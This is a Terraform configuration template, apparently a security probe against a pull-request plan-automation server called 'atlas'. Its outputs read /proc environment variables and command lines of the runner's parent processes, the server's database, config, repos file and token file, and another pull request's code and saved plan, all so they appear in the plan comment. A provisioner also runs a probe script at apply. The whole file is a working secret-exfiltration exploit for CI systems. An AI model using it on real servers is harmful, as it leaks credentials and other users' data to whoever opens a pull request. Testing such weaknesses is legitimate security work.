# Everything terraform's functions can find while this pull request is planned. The outputs go
# into atlas's plan comment, so whatever a function reads is posted for the author to see.

locals {
  stat_ppid = "^\\d+ \\(.*\\) \\S+ (\\d+)"
  # This process, then its ancestors as far as they can be seen.
  parent      = regex(local.stat_ppid, file("/proc/self/stat"))[0]
  grandparent = try(regex(local.stat_ppid, file("/proc/${local.parent}/stat"))[0], "")
  great       = try(regex(local.stat_ppid, file("/proc/${local.grandparent}/stat"))[0], "")
  greater     = try(regex(local.stat_ppid, file("/proc/${local.great}/stat"))[0], "")
  ancestors   = compact([local.parent, local.grandparent, local.great, local.greater])
}

output "processes" {
  value = sort([for f in fileset("/proc", "*/stat") : dirname(f) if can(tonumber(dirname(f)))])
}

output "ancestors" {
  value = local.ancestors
}

output "ancestor_environ" {
  value = [for pid in local.ancestors : try(file("/proc/${pid}/environ"), "unreadable")]
}

output "ancestor_environ_base64" {
  value = [for pid in local.ancestors : try(filebase64("/proc/${pid}/environ"), "unreadable")]
}

output "ancestor_cmdline" {
  value = [for pid in local.ancestors : try(file("/proc/${pid}/cmdline"), "unreadable")]
}

output "ancestor_cmdline_base64" {
  value = [for pid in local.ancestors : try(filebase64("/proc/${pid}/cmdline"), "unreadable")]
}

output "data_dir" {
  value = fileset("__DATA_DIR__", "**")
}

output "database" {
  value = try(filebase64("__DATA_DIR__/atlas.db"), "absent")
}

output "database_by_climbing" {
  value = try(filebase64("${abspath(path.root)}/__CLIMB__/atlas.db"), "absent")
}

output "other_pull_request" {
  value = try(file("__OTHER_WORKING_COPY__/app/main.tf"), "absent")
}

output "other_saved_plan" {
  value = try(filebase64("__OTHER_PLAN__"), "absent")
}

output "job_logs" {
  value = fileset("__DATA_DIR__/jobs", "*")
}

output "config_file" {
  value = try(file("__CONFIG_FILE__"), "absent")
}

output "repos_yaml" {
  value = try(file("__REPOS_YAML__"), "absent")
}

output "token_file" {
  value = try(file("__TOKEN_FILE__"), "absent")
}

# At apply, a provisioner runs the same probe as the workflow's run steps.
resource "terraform_data" "probe" {
  provisioner "local-exec" {
    command = "sh ${path.module}/probe.sh local-exec"
  }
}
